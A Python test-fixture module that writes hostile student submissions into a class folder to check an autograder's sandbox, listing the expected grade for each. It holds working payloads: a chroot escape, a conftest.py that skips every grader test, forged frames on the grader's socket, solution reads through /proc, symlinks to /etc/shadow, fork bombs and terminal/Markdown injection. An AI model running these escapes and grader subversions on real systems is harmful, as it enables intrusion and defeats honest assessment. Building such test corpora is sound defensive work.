"""The second hostile corpus (issue 10): escapes, forged frames, trickles, leaks, links, names.

Each case is written into the class folder by `write_issue10_corpus`; `EXPECTED` says the exact
status and score each must get. Cases that need to know where things are (the course copy,
the output folder, the class folder) get those paths written into their source, as a student
who guessed them would. Every process a case leaves behind carries `MARK` in its argv or comm,
so the class run can prove none survives it.
"""

from __future__ import annotations

import json
import os
import textwrap
from dataclasses import dataclass
from pathlib import Path

from hostile_corpus import CORRECT, FULL, code_cell, notebook, with_double

# Finds the grader's socket from inside the sandbox and writes a raw frame onto it.
FORGE = textwrap.dedent("""
    import json as _json, os as _os, stat as _stat, struct as _struct
    def _wire():
        found = []
        for fd in range(3, 256):
            try:
                if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                    found.append(fd)
            except OSError:
                pass
        return found
    def forge(obj=None, raw=None):
        data = raw if raw is not None else _json.dumps(obj).encode()
        for fd in _wire():
            _os.write(fd, _struct.pack("<II", len(data), 0) + data)
    def trickle(forever=True):
        import time
        frame = _struct.pack("<II", 24, 0) + b'{"ok": true, "value": 1}'
        while True:
            for byte in frame:
                for fd in _wire():
                    _os.write(fd, bytes([byte]))
                time.sleep(0.5)
            if not forever:
                return
""")

# The classic chroot escape, then a conftest.py next to every grader folder it can name.
ESCAPE = textwrap.dedent("""
    import os
    report = []
    def escape():
        try:
            os.makedirs("jail", exist_ok=True)
            os.chroot("jail")
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            report.append("escaped")
        except OSError as exc:
            report.append(f"chroot refused ({exc.errno})")
    escape()
    def paths(*tails):
        prefixes = ["", "/proc/1/root", "/proc/self/root", "../../../../../../.."]
        return [p + t for p in prefixes for t in tails]
""")

# Lets every message out of the child whole (a megabyte each), as a patched sandbox would.
PASS_THROUGH = textwrap.dedent("""
    import sys
    sys.modules["seqlab.sandbox.dispatcher"].describe_exception = lambda exc: {
        "type": type(exc).__name__, "bases": ["ValueError", "Exception", "BaseException"],
        "message": str(exc), "where": None}
""")

CONFTEST = "import pytest\\n@pytest.fixture(autouse=True)\\ndef owned():\\n    pytest.skip('owned')\\n"


@dataclass(frozen=True)
class Where:
    """The instructor's paths a hostile submission would try to reach."""

    course: Path
    folder: Path
    out: Path
    mark: str


def _cells(*parts: str) -> str:
    """A .py submission split into cells with `# %%` markers (one failing cell costs only itself)."""
    return "\n# %%\n".join(textwrap.dedent(p).strip() + "\n" for p in parts)


def _sources(w: Where) -> dict[str, str]:
    secrets = [f"{w.course}/graders/test_echo.py", f"{w.course}/solutions/echo/echo.ipynb"]
    return {
        # -- 1. confinement: escapes, writes next to the graders, reads solutions -------------------
        "chroot_escape_conftest": ESCAPE + textwrap.dedent(f"""
            for target in paths({str(w.course / 'graders')!r}, {str(w.course)!r}):
                try:
                    with open(target + "/conftest.py", "w") as handle:
                        handle.write({CONFTEST!r})
                    report.append("wrote " + target)
                except OSError:
                    pass
        """) + with_double("def double(x):\n    return torch.zeros_like(x)"),
        "reads_solutions": ESCAPE + textwrap.dedent(f"""
            stolen = []
            for target in paths(*{secrets!r}):
                try:
                    stolen.append(open(target).read())
                except OSError:
                    pass
        """) + with_double("def double(x):\n    if stolen:\n        raise ValueError(f'read {len(stolen)} hidden files')"
                           "\n    return x * 2"),
        "instructor_paths_visible": textwrap.dedent(f"""
            import os, sys
            secret_dirs = [{str(w.course)!r}, {str(w.folder)!r}, {str(w.out)!r}]
            places = {{"argv": " ".join(sys.argv), "env": " ".join(os.environ.values()), "cwd": os.getcwd()}}
            for name in ("cmdline", "environ"):
                for pid in ("self", "1"):
                    try:
                        places[f"/proc/{{pid}}/{{name}}"] = open(f"/proc/{{pid}}/{{name}}", "rb").read().decode("utf-8", "replace")
                    except OSError:
                        pass
            leaked = sorted(place for place, text in places.items() if any(d in text for d in secret_dirs))
        """) + with_double("def double(x):\n    if leaked:\n        raise ValueError('instructor path visible in ' + ', '.join(leaked))"
                           "\n    return x * 2"),
        # -- 4. nothing outlives its submission ------------------------------------------------------
        "setsid_fork_survivors": _cells(CORRECT, f"""
            import ctypes, os, subprocess, sys, threading, time
            for _ in range(2):
                subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(0.05)", {w.mark!r}],
                                 start_new_session=True)
            os.setsid()
            os._exit = lambda code=0: None
            ctypes.CDLL(None).prctl(15, {w.mark.encode()!r}, 0, 0, 0)
            threading.Thread(target=time.sleep, args=(10**6,)).start()  # keeps the process from exiting
        """),
        "fork_memory_bombs": _cells(CORRECT.replace("def double(x):\n    return x * 2", (
            "def double(x):\n    if globals().get('HELD_TOGETHER', 0) > 1:\n"
            "        raise ValueError(f'{HELD_TOGETHER} forks held 300 MB each at once')\n    return x * 2")), f"""
            import ctypes, os, select, time
            pipes = {{}}
            for _ in range(3):
                r, wr = os.pipe()
                pid = os.fork()
                if pid == 0:
                    ctypes.CDLL(None).prctl(15, {w.mark.encode()!r}, 0, 0, 0)
                    try:
                        hold = b"x" * (300 * 2**20)
                        os.write(wr, b"1")
                    except MemoryError:
                        pass
                    time.sleep(30)
                    os._exit(0)
                os.close(wr)
                pipes[r] = pid
            held, deadline = set(), time.monotonic() + 1.5
            while len(held) < len(pipes) and time.monotonic() < deadline:
                ready, _, _ = select.select(list(set(pipes) - held), [], [], 0.05)
                held |= {{r for r in ready if os.read(r, 1) == b"1"}}
            time.sleep(0.2)  # a cap per submission kills some of them by now
            HELD_TOGETHER = sum(1 for r in held if os.waitpid(pipes[r], os.WNOHANG) == (0, 0))
        """),
        # -- 5. no marks for lying ------------------------------------------------------------------
        "fake_grad_under_no_grad": CORRECT.replace(
            "        return self.k * x",
            "        with torch.no_grad():\n            out = self.k * x\n"
            "            self.k.grad = torch.ones_like(self.k)\n        return out.requires_grad_()"),
        # -- 2. forged frames, trickles, text that breaks writes ----------------------------------
        "forged_list_at_load": _cells(FORGE + "forge([1, 2])", CORRECT),
        "forged_error_string_at_load": _cells(FORGE + 'forge({"event": "cell_done", "index": 0, '
                                              '"status": "raised", "error": "boom", "seconds": 0})', CORRECT),
        "forged_reply_in_call": FORGE + with_double(
            'def double(x):\n    forge({"ok": False, "error": "boom"})\n    return x * 2'),
        "forged_giant_header_in_call": FORGE + with_double(
            "def double(x):\n    for fd in _wire():\n        _os.write(fd, _struct.pack('<II', 2**31, 0))\n"
            "    return x * 2"),
        "trickle_in_call": FORGE + with_double("def double(x):\n    trickle()"),
        "trickle_at_load": _cells(FORGE + "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ntrickle()",
                                  CORRECT),
        "lone_surrogate_in_call": with_double("def double(x):\n    raise ValueError('\\udc80')"),
        "lone_surrogate_at_import": "raise ValueError('bad \\ud800 and \\udfff')\n",
        # -- 6. hidden inputs never reach feedback -------------------------------------------------
        "megabyte_errors": _cells(PASS_THROUGH, *["raise ValueError('A' * 2**20)"] * 40, CORRECT.replace(
            "def double(x):\n    return x * 2", "def double(x):\n    raise ValueError('B' * 2**20)").replace(
            "        return self.k * x", "        raise ValueError('C' * 2**20)")),
        "patched_describe_exception": textwrap.dedent("""
            import sys
            SEEN = []
            def _leak(exc):
                return {"type": "Leak" * 5000, "bases": ["ValueError", "Exception", "BaseException"],
                        "message": repr(SEEN) * 50, "where": "cell 0, line 1"}
            sys.modules["seqlab.sandbox.dispatcher"].describe_exception = _leak
        """) + CORRECT.replace("def double(x):\n    return x * 2",
                               "def double(x):\n    SEEN.append(x.tolist())\n    raise ValueError('hidden')").replace(
            "        return self.k * x", "        SEEN.append(x.tolist())\n        raise ValueError('hidden')"),
        # -- 7. terminal and Markdown injection ----------------------------------------------------
        "escape_codes_in_message": with_double(
            "def double(x):\n    raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\x1b[32mALL GRADED 5/5\\x1b[0m')"),
        "escape_codes_at_import": "raise SystemExit('\\x1b[2J\\x1b[31mALL GRADED\\x1b[0m\\r\\x08')\n",
        "markdown_injection": with_double(
            "def double(x):\n    raise ValueError('x\\n\\n# Full marks 5/5\\n[click here](https://evil.example)"
            "\\n<img src=x onerror=alert(1)> | forged | cell |')"),
        "honest_zeros": with_double("def double(x):\n    return torch.zeros_like(x)"),
    }


def _deep(levels: int) -> str:
    return '{"cells": ' + "[" * levels + "]" * levels + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _notebooks() -> dict[str, str]:
    cell = code_cell("x = 1")
    return {
        "nested_2000_deep": _deep(2000),
        "nested_100_deep_metadata": notebook([{**code_cell(CORRECT),
                                               "metadata": {"deep": json.loads("[" * 100 + "]" * 100)}}]),
        "cells_100k": notebook([cell] * 100_000),
        "malformed_cells": notebook([{"cell_type": "code", "source": 5, "metadata": {"nbgrader": []},
                                      "outputs": "none"}]),
        "honest_notebook": notebook([code_cell(CORRECT)]),
    }


def write_issue10_corpus(w: Where) -> None:
    """Every case of this corpus, as files, folders, links and odd names in the class folder."""
    folder = w.folder
    for name, source in _sources(w).items():
        (folder / f"{name}.py").write_text(source)
    for name, text in _notebooks().items():
        (folder / f"{name}.ipynb").write_text(text)
    with open(folder / "sparse_200mb.ipynb", "wb") as handle:  # 200 MB that costs no disk
        handle.truncate(200 * 2**20)
    # 2. names: not UTF-8 (two that differ only there), overlong, sharing a long prefix, escapes
    for raw in (b"/caf\xe9.py", b"/caf\xe8.py", b"/\xff\xfe_folder/echo.py"):
        path = Path(os.fsdecode(bytes(folder) + raw))
        path.parent.mkdir(exist_ok=True)
        path.write_text(CORRECT)
    (folder / f"{'s' * 240}.py").write_text(CORRECT)
    (folder / f"{'s' * 239}t.py").write_text(CORRECT)
    escapes = folder / "\x1b[2J\x1b]0;owned\x07ALL GRADED"
    escapes.mkdir()
    (escapes / "echo.py").write_text(CORRECT)
    # 3. links that leave the submission, and one that stays inside it
    (folder / "link_to_solution.ipynb").symlink_to(w.course / "solutions" / "echo" / "echo.ipynb")
    (folder / "link_to_grader.py").symlink_to(w.course / "graders" / "test_echo.py")
    (folder / "link_to_shadow.py").symlink_to("/etc/shadow")
    (folder / "link_to_solutions_folder").symlink_to(w.course / "solutions" / "echo")
    (folder / "link_to_classmate.py").symlink_to(folder / "honest_zeros.py")
    inner = folder / "inner_link_out"
    inner.mkdir()
    (inner / "echo.py").symlink_to(w.course / "solutions" / "echo" / "echo.py")
    layout = folder / "nbgrader_layout_link"
    layout.mkdir()
    (layout / "echo").symlink_to(w.course / "solutions" / "echo")
    inside = folder / "inner_link_inside"
    (inside / "work").mkdir(parents=True)
    (inside / "work" / "impl.py").write_text(CORRECT)
    (inside / "echo.py").symlink_to(inside / "work" / "impl.py")
    os.mkfifo(folder / "a_fifo.py")  # not a regular file: skipped, never opened


LONG_ID = "s" * 240
ESCAPES_ID = "\\x1b[2J\\x1b]0;owned\\x07ALL GRADED"

EXPECTED: dict[str, tuple[str, float]] = {
    "chroot_escape_conftest": ("graded", 3.0),
    "reads_solutions": ("graded", FULL),
    "instructor_paths_visible": ("graded", FULL),
    "setsid_fork_survivors": ("graded", FULL),
    "fork_memory_bombs": ("graded", FULL),  # 3.0 where caps are per process (see test)
    "fake_grad_under_no_grad": ("graded", 4.0),
    "forged_list_at_load": ("graded", FULL),
    "forged_error_string_at_load": ("graded", FULL),
    "forged_reply_in_call": ("graded", 3.0),
    "forged_giant_header_in_call": ("graded", 3.0),
    "trickle_in_call": ("graded", 3.0),
    "trickle_at_load": ("graded", FULL),
    "lone_surrogate_in_call": ("graded", 3.0),
    "lone_surrogate_at_import": ("error", 0.0),
    "megabyte_errors": ("graded", 1.0),
    "patched_describe_exception": ("graded", 1.0),
    "escape_codes_in_message": ("graded", 3.0),
    "escape_codes_at_import": ("error", 0.0),
    "markdown_injection": ("graded", 3.0),
    "honest_zeros": ("graded", 3.0),
    "nested_2000_deep": ("invalid", 0.0),
    "nested_100_deep_metadata": ("invalid", 0.0),
    "cells_100k": ("invalid", 0.0),
    "malformed_cells": ("invalid", 0.0),
    "honest_notebook": ("graded", FULL),
    "sparse_200mb": ("invalid", 0.0),
    "caf\\xe9": ("graded", FULL),
    "caf\\xe8": ("graded", FULL),
    "\\xff\\xfe_folder": ("graded", FULL),
    LONG_ID: ("graded", FULL),
    "s" * 239 + "t": ("graded", FULL),
    ESCAPES_ID: ("graded", FULL),
    "link_to_solution": ("invalid", 0.0),
    "link_to_grader": ("invalid", 0.0),
    "link_to_shadow": ("invalid", 0.0),
    "link_to_solutions_folder": ("invalid", 0.0),
    "link_to_classmate": ("invalid", 0.0),
    "inner_link_out": ("invalid", 0.0),
    "nbgrader_layout_link": ("invalid", 0.0),
    "inner_link_inside": ("graded", FULL),
}
LINKS = [name for name in EXPECTED if "link" in name and name != "inner_link_inside"]
